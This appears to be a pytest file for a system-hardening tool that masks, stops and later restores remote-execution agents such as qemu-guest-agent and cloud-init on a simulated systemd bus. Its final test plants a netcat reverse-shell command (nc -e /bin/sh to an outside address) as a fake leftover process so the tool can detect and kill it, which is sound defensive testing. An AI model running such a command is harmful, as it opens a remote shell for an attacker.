"""The remote-execution agents guarantee against stand-in systemd on a private bus: a running
qemu-guest-agent and an enabled cloud-init are locked away with every other agent's name, and
purge gives back exactly what was there."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from statemesh import grace, journal, proc
from statemesh.guarantees import agents
from tests.fakebus import FakeBus, fakebus  # noqa: F401 - fixture


@pytest.fixture
def cloud_vm(fakebus: FakeBus) -> FakeBus:
    """A VM with qemu-guest-agent running (started by udev for its virtio port: a static
    unit) and cloud-init enabled; no other agent installed."""
    fakebus.systemd.add("qemu-guest-agent.service", file_state="static", active_state="active")
    for name in ("cloud-init-local.service", "cloud-init.service", "cloud-config.service",
                 "cloud-final.service"):
        fakebus.systemd.add(name, enabled=True)
    return fakebus


def test_agents_are_masked_stopped_and_given_back(cloud_vm: FakeBus, tmp_path: Path) -> None:
    book = journal.Journal(tmp_path / "state")
    guarantee = agents.RemoteAgents()
    before = guarantee.check()
    assert not before.holds
    assert "running: qemu-guest-agent.service" in before.detail

    guarantee.apply(book)
    after = guarantee.check()
    assert after.holds, after.detail
    units = cloud_vm.systemd.units
    assert all(units[name].masked for name in agents.UNITS.names)  # installed or not
    assert units["qemu-guest-agent.service"].active_state == "inactive"
    assert not units["cloud-init.service"].enabled

    guarantee.revert(book.restore_record()["agents"])
    assert not any(units[name].masked for name in agents.UNITS.names)
    assert units["qemu-guest-agent.service"].active_state == "active"
    assert units["cloud-init.service"].enabled
    assert not units["amazon-ssm-agent.service"].exists  # no file was left for it


def test_a_start_of_the_guest_agent_is_a_way_in_selftest_tries(cloud_vm: FakeBus,
                                                               tmp_path: Path) -> None:
    guarantee = agents.RemoteAgents()
    (way,) = guarantee.ways_in()
    assert not way.attempt().blocked  # the agent can be started: a way in
    guarantee.apply(journal.Journal(tmp_path / "state"))
    probe = way.attempt()
    assert probe.blocked and "masked" in probe.detail


def test_the_agent_running_the_installation_is_stopped_only_once_its_grace_is_over(
        cloud_vm: FakeBus, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """cloud-init's runcmd installs the package from inside cloud-final.service: stopping that
    unit with the other agents' would kill apt half-way, and masking it would too (reloaded
    from /dev/null, the running oneshot loses its TimeoutStartSec=0). It is left as it is
    while the installer runs, and locked at the first check after the grace."""
    cloud_vm.systemd.units["cloud-final.service"].active_state = "active"
    record = tmp_path / "grace.json"
    grace.record_installer(os.getpid(), record)  # this process stands for apt-get
    lineage = grace.lineage(os.getpid())
    monkeypatch.setattr(proc, "cgroup_path", lambda pid: (
        "/system.slice/cloud-final.service" if pid in lineage else "/init.scope"))
    book = journal.Journal(tmp_path / "state")
    guarantee = agents.RemoteAgents(grace_path=record)

    guarantee.apply(book)
    units = cloud_vm.systemd.units
    final = units["cloud-final.service"]
    assert final.active_state == "active" and not final.masked
    assert units["qemu-guest-agent.service"].active_state == "inactive"
    during = guarantee.check()
    assert during.holds and "cloud-final.service is left as it is until apt returns" in during.detail

    grace.end_after(0, record)
    after = guarantee.check()
    assert not after.holds, after.detail
    assert "not masked: cloud-final.service" in after.detail, after.detail
    assert "running: cloud-final.service" in after.detail, after.detail
    guarantee.apply(book)  # what the tamper listener does at its next check
    assert final.active_state == "inactive" and final.masked
    assert guarantee.check().holds


def test_what_a_stopped_agent_left_running_is_named_and_killed(cloud_vm: FakeBus,
                                                               tmp_path: Path) -> None:
    """cloud-final.service stops with KillMode=process: what runcmd put in the background
    stays in its cgroup, root and in no running unit."""
    guarantee = agents.RemoteAgents(grace_path=tmp_path / "no-grace.json")
    book = journal.Journal(tmp_path / "state")
    guarantee.apply(book)
    final = cloud_vm.systemd.units["cloud-final.service"]
    final.processes = [(4242, "nc -e /bin/sh 198.51.100.7 4444")]
    found = guarantee.check()
    assert not found.holds
    assert ("processes left by cloud-final.service after its stop: pid 4242 "
            "(nc -e /bin/sh 198.51.100.7 4444)") in found.detail, found.detail
    guarantee.apply(book)
    assert ("KillUnit", ("cloud-final.service", "all", 9)) in cloud_vm.systemd.calls
    assert final.processes == [] and guarantee.check().holds
